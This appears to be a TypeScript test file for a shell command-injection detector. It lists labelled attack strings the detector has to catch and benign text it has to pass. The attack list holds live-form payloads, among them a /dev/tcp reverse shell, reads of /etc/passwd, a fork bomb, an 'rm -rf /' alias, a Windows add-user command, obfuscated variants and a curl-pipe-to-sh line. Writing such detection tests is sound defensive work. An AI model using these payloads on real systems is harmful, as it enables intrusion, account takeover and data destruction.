import assert from 'node:assert/strict'
import { test } from 'node:test'
import { hitsOf, proofsOf } from '../testing.ts'
import { shellDetector } from './detector.ts'

const attacks: readonly [string, string][] = [
  [';id', 'rce.command'],
  ['a;b;c;ls -l', 'rce.command'],
  ["';id;'", 'rce.command'],
  ['a|ls -la', 'rce.command'],
  ['1 && whoami', 'rce.command'],
  ['x; cat /etc/passwd', 'rce.command'],
  ['|/usr/bin/id', 'rce.program'],
  ['/bin/bash -i', 'rce.program'],
  ['$(whoami)', 'rce.substitution'],
  ['`id`', 'rce.substitution'],
  ['<(cat file)', 'rce.substitution'],
  ["; c'a't /e?c/p*d", 'rce.veiled'],
  ['; w"h"oami', 'rce.veiled'],
  ['& who^ami', 'rce.veiled'],
  ['pi``ng 127.0.0.1', 'rce.veiled'],
  ['cat$IFS/etc/hosts', 'rce.field-separator'],
  ['() { :;}; echo x', 'rce.shellshock'],
  ['x >& /dev/tcp/10.0.0.1/4242 0>&1', 'rce.device'],
  ['/???/??t', 'rce.glob'],
  ['/etc/pas[s]wd', 'rce.glob'],
  ['${PATH:0:1}', 'rce.expansion'],
  ['nohup ifconfig', 'rce.line'],
  ['cat /etc/passwd', 'rce.line'],
  ['\nid', 'rce.next-line'],
  ['& net user hacker x /add', 'rce.command'],
  ['| dir', 'rce.command'],
  ['%ProgramFiles:~10,1%', 'rce.substring'],
  ['for /f "tokens=1" %a in (x) do echo %a', 'rce.batch'],
  ['if not exist c:\\x echo y', 'rce.batch'],
  ['if "%1"=="" goto end', 'rce.batch'],
  [':(){ :|:& };:', 'rce.fork-bomb'],
  ["alias ls='rm -rf /'", 'rce.alias'],
]
for (const [text, rule] of attacks)
  test(`shell: ${JSON.stringify(text)} is ${rule}`, () => assert.ok(proofsOf(shellDetector, text).includes(rule)))

const harmless = [
  'cat and mouse; dog',
  'salt & pepper; more to come',
  'Q&A, R&D, AT&T, B&W',
  'find . exactly what you need',
  'who is the owner? id rather not say',
  'ssh anna@10.0.0.5 -p 2222',
  'Hello,\nfind the list below.\nKind regards',
  'begin; commit; rollback',
  'use `git` to fetch and `ls` to look at it',
  '&amp;&nbsp;&copy; 2026',
  'Edit with a single &Vim',
  'if (a == b) { return }',
  'if x == "y":',
  'if "a" == "b":',
  'sort | name | price',
  'a=1&id=3&sort=asc',
  'https://www.example.com/search?q=shoes&sort=price',
  '/users/[id]/edit',
  '$(this).hide()',
  'Price: $19.99 (was $29.99); you save 33%',
]
for (const text of harmless)
  test(`shell: ${JSON.stringify(text)} passes`, () => assert.deepEqual(proofsOf(shellDetector, text), []))

test('shell: a document that shows commands is told of at most', () => {
  const text = 'Install it:\n\ncurl -s https://example.com/i.sh | sh\n\nthen run `whoami` and $(id); cat /etc/passwd'
  assert.deepEqual(proofsOf(shellDetector, text, { document: true }), [])
  assert.ok(hitsOf(shellDetector, text, { document: true }).length > 0)
  assert.deepEqual(proofsOf(shellDetector, 'x; cat /etc/passwd', { document: true }), [])
})
